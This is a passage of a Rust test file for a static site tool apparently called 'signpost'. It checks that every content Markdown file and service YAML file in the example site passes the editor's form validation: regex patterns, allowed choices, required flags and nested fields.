        if let Some(pattern) = field.pattern {
            let text = match value {
                Value::String(s) => s.clone(),
                other => other.to_string(),
            };
            if !regex::Regex::new(pattern.regex).unwrap().is_match(&text) {
                problems.push(format!("{here}: `{text}` does not match {}", pattern.regex));
            }
        }
        match &field.kind {
            Kind::Choice { options, .. } => {
                let offered =
                    |v: &Value| options.iter().any(|o| Value::String(o.value.clone()) == *v);
                let values: Vec<&Value> = match value {
                    Value::Array(items) => items.iter().collect(),
                    single => vec![single],
                };
                for v in values.into_iter().filter(|v| !offered(v)) {
                    problems.push(format!("{here}: {v} is not offered"));
                }
            }
            Kind::Flag { must_be_true: true } if value != &Value::Bool(true) => {
                problems.push(format!("{here}: must be true"));
            }
            Kind::Group(sub) => problems.extend(form_problems(sub, value, &here)),
            Kind::Items(sub) => {
                for (i, item) in value.as_array().into_iter().flatten().enumerate() {
                    problems.extend(form_problems(sub, item, &format!("{here}[{i}]")));
                }
            }
            _ => {}
        }
    }
    problems
}

#[test]
fn every_file_of_the_example_site_is_one_the_editor_would_save_unchanged() {
    let repo = Path::new(env!("CARGO_MANIFEST_DIR"));
    let (config, _) = signpost::config::load(repo).unwrap();
    let site = Site {
        categories: signpost::directory::load_categories(
            repo,
            &config.taxonomies,
            &mut Default::default(),
        ),
        taxonomies: config.taxonomies,
    };
    let mut checked = 0;
    let mut problems = Vec::new();
    let mut check = |kind: Type, file: &Path, settings: &str| {
        let value: Value = signpost::yaml::parse(settings).unwrap();
        for problem in form_problems(&kind.fields(&site), &value, "") {
            problems.push(format!("{}{problem}", file.display()));
        }
        checked += 1;
    };
    for entry in walkdir::WalkDir::new(repo.join("content"))
        .into_iter()
        .filter_map(Result::ok)
    {
        let path = entry.path();
        if path.extension().is_none_or(|e| e != "md") {
            continue;
        }
        let text = std::fs::read_to_string(path).unwrap();
        let settings = text.split("---\n").nth(1).unwrap();
        let relative = path.strip_prefix(repo.join("content")).unwrap();
        // A section's page in any language: `_index.md`, `_index.pl.md`.
        let is_index = relative
            .file_name()
            .is_some_and(|n| n.to_string_lossy().starts_with("_index."));
        let kind = match relative
            .components()
            .next()
            .unwrap()
            .as_os_str()
            .to_str()
            .unwrap()
        {
            "signs" if !is_index => Type::Sign,
            "voices" if !is_index => Type::Voice,
            _ => Type::Guidance,
        };
        check(kind, relative, settings);
    }
    for entry in std::fs::read_dir(repo.join("directory_data/services")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "yaml") {
            check(
                Type::Service,
                &path,
                &std::fs::read_to_string(&path).unwrap(),
            );
        }
    }
    assert!(checked > 100, "{checked} files");
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}
